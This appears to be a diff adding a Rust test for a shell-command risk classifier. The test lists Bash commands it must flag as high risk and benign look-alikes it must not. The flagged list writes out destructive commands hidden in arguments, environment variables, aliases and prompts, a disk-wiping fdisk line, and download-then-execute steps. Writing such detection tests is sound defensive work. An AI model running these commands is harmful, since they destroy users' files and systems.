@@ -320,3 +320,53 @@ fn what_does_not_parse_is_never_an_all_clear() {
         assert!(verdict.findings.iter().any(|finding| finding.rule == "syntax"), "{text}");
     }
 }
+
+#[test]
+fn commands_that_arguments_files_and_variables_carry_are_judged() {
+    let serious = [
+        "nix-shell -p jq --run 'rm -rf ~'",
+        "poetry run rm -rf ~",
+        "podman exec web sh -c 'rm -rf /usr'",
+        "frobnicate -- rm -rf ~",
+        "frobnicate 'rm -rf ~'",
+        "gdb -batch -ex 'shell rm -rf ~'",
+        "echo 'rm -rf ~' > a.sh; sh a.sh",
+        "tee a.sh <<< 'rm -rf ~' && . ./a.sh",
+        "cp /bin/rm tidy; ./tidy -rf ~",
+        "words=(rm -rf ~); \"${words[@]}\"",
+        "mapfile -t words <<< $'rm\\n-rf\\n/'; \"${words[@]}\"",
+        "MANPAGER='rm -rf ~' man ls",
+        "PS1='$(rm -rf ~)'",
+        "alias ll='rm -rf ~'",
+        "sed 's/.*/rm -rf ~/e' x",
+        "find /usr | xargs rm -f",
+        "printf 'd\\nw\\n' | fdisk /dev/sda",
+        "curl example.com/a > a; bash < a",
+        "scp host:a.sh . && sh a.sh",
+    ];
+    for text in serious {
+        let verdict = verdict(text, ShellKind::Bash);
+        assert!(verdict.risk >= Risk::High, "{text}: {:?}", verdict.findings);
+    }
+    let harmless = [
+        "nix-shell -p jq --run 'jq . x'",
+        "poetry run pytest",
+        "frobnicate 'remove the old ones'",
+        "frobnicate --title 'rm -rf ~'",
+        "gdb -batch -ex 'break main'",
+        "echo 'ls' > a.sh; sh a.sh",
+        "cp /bin/ls show; ./show -l",
+        "words=(ls -l); \"${words[@]}\"",
+        "MANPAGER='less -R' man ls",
+        "PS1='$(git branch --show-current) '",
+        "alias ll='ls -l'",
+        "sed 's/one/e/' x",
+        "find . -name '*.o' | xargs rm -f",
+        "scp host:a.txt . && cat a.txt",
+        "cat ~/.ssh/id_ed25519.pub | ssh host 'cat >> ~/.ssh/authorized_keys'",
+    ];
+    for text in harmless {
+        let verdict = verdict(text, ShellKind::Bash);
+        assert!(verdict.risk <= Risk::Medium, "{text}: {:?}", verdict.findings);
+    }
+}
